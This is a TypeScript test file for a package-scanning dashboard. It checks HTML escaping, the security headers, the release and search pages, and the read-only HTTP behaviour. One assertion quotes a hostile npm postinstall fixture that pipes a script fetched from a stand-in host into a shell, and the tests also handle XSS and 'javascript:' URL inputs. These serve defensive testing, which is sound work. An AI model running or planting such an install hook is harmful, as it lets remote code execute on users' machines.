import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { escapeHtml, html } from '../../src/server/index.js';
import type { RunningDashboard } from '../../src/server/index.js';
import { XSS, seededDashboard } from './seed.js';

describe('html templates', () => {
  test('escape every interpolated value, nested templates stay as markup', () => {
    assert.equal(escapeHtml(`<a href="x">'&'</a>`), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
    assert.equal(html`<p title="${'"><x'}">${['<b>', html`<i>${'&'}</i>`]}${undefined}${false}${0}</p>`.value, '<p title="&quot;&gt;&lt;x">&lt;b&gt;<i>&amp;</i>0</p>');
  });
});

describe('dashboard over HTTP', () => {
  let served: Awaited<ReturnType<typeof seededDashboard>>;
  let dash: RunningDashboard;
  before(async () => {
    served = await seededDashboard('vigil-serve-');
    dash = served.dash;
  });
  after(async () => {
    await served.close();
  });

  const get = async (path: string, init?: RequestInit) => {
    const res = await fetch(`${dash.url}${path}`, init);
    return { status: res.status, headers: res.headers, body: await res.text() };
  };

  test('overview lists projects, alerts and releases, escaped, with a strict CSP', async () => {
    const r = await get('/');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-security-policy') ?? '', /default-src 'none'/);
    assert.ok(!/script-src/.test(r.headers.get('content-security-policy') ?? ''), 'no scripts allowed at all');
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
    for (const text of ['shop-frontend', 'evil-pkg@0.0.9', 'requests-helper@0.4.2', '3 scanned releases']) assert.ok(r.body.includes(text), text);
    assert.ok(!r.body.includes(XSS), 'hostile text is never emitted raw');
    assert.ok(!r.body.includes('<script'), 'no script element at all');
    assert.ok(r.body.includes(escapeHtml(XSS)));
  });

  test('release page shows each finding with evidence, the diff and safe links', async () => {
    const r = await get('/release/npm/evil-pkg/0.0.9');
    assert.equal(r.status, 200);
    assert.match(r.body, /npm\/install-script-download/);
    assert.ok(r.body.includes(escapeHtml('"postinstall": "curl -s http://payload.example.invalid/x.sh | sh"')));
    assert.match(r.body, /<strong>1<\/strong> finding\(s\) are new in this release/);
    assert.match(r.body, /href="\/release\/npm\/evil-pkg\/0\.0\.8"/);
    assert.ok(!r.body.includes('javascript:'), 'a hostile artifact URL is not linked');
    assert.equal((await get('/release/npm/evil-pkg/9.9.9')).status, 404);
    assert.equal((await get('/release/cargo/x/1')).status, 404);
    assert.equal((await get('/release/npm/%E0%A4%A/1')).status, 400);
  });

  test('search by package, verdict filter, alerts, project page and JSON API', async () => {
    const s = await get('/releases?q=EVIL');
    assert.ok(s.body.includes('evil-pkg@0.0.9') && s.body.includes('evil-pkg@0.0.8'));
    assert.ok(!s.body.includes('requests-helper@'));
    assert.match(s.body, /value="EVIL"/);
    const m = await get('/releases?verdict=malicious');
    assert.ok(m.body.includes('evil-pkg@0.0.9') && !m.body.includes('evil-pkg@0.0.8'));
    const a = await get('/alerts?q=evil');
    assert.ok(a.body.includes('you use 0.0.8'));
    const p = await get('/project/abc123def456');
    assert.equal(p.status, 200);
    assert.ok(p.body.includes('/srv/app'));
    assert.equal((await get('/project/nope')).status, 404);
    const api = JSON.parse((await get('/api/releases?q=requests')).body) as { name: string }[];
    assert.deepEqual(api.map((x) => x.name), ['requests-helper']);
    assert.equal((JSON.parse((await get('/api/projects')).body) as unknown[]).length, 1);
    assert.equal((await get('/healthz')).body, 'ok\n');
  });

  test('read-only: other methods are refused; unknown pages are 404', async () => {
    const r = await get('/', { method: 'POST', body: 'x' });
    assert.equal(r.status, 405);
    assert.equal(r.headers.get('allow'), 'GET, HEAD');
    assert.equal((await get('/nope')).status, 404);
    assert.equal((await get(`/releases?q=${'a'.repeat(5000)}`)).status, 414);
  });
});
